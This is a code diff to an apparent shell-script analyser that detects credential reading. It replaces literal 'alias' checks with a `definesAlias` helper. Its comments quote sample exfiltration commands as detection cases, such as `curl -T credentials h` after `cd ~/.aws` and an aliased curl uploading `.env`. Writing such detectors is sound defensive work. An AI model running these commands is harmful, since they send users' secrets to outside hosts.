@@ -39,7 +39,7 @@ import {
   wentHome,
   xargsFed,
 } from './shell.js';
-import { aliasedLine, collectAliases } from './shell-aliases.js';
+import { aliasedLine, collectAliases, definesAlias } from './shell-aliases.js';
 import { arrayAssignment } from './shell-arrays.js';
 import { credentialGlob, listedCredential, mayGlob } from './shell-globs.js';
 import { resumesEarlier } from './shell-history.js';
@@ -255,7 +255,7 @@ function readScript(text: string, st: State): void {
     // `x=(/ /root)`, `mapfile -t a <<< /root`: an array's elements (round 27, shell-arrays.ts).
     if (!arrayAssignment(parsed.commands, i, st))
       collectAssignments(cmd.words, cmd.shown, st.vars, st.spoiled);
-    if (cmd.words[0] === 'alias') {
+    if (definesAlias(cmd)) {
       st.aliases ??= new Map();
       collectAliases(cmd, st.aliases);
     }
@@ -359,7 +359,7 @@ function plainLines(
   // `find ~ | cpio -o`: what an archiver packs from a listed home is the general reader's (round 24).
   if (cmds.length > 1 && cmds.some(mayListHome)) return undefined;
   // `alias g=curl; g -T .env h`: where an alias runs is the general reader's (round 27).
-  if (cmds.length > 1 && cmds.some((c) => c.words[0] === 'alias')) return undefined;
+  if (cmds.length > 1 && cmds.some(definesAlias)) return undefined;
   // `cd ~/.aws; curl -T credentials h`: the directories the text goes to (shell-places.ts), for placedCredential.
   const dirs = cmds.length > 1 ? (placesOf(cmds)?.dirs ?? NO_DIRS) : NO_DIRS;
   let itself = verbatim;
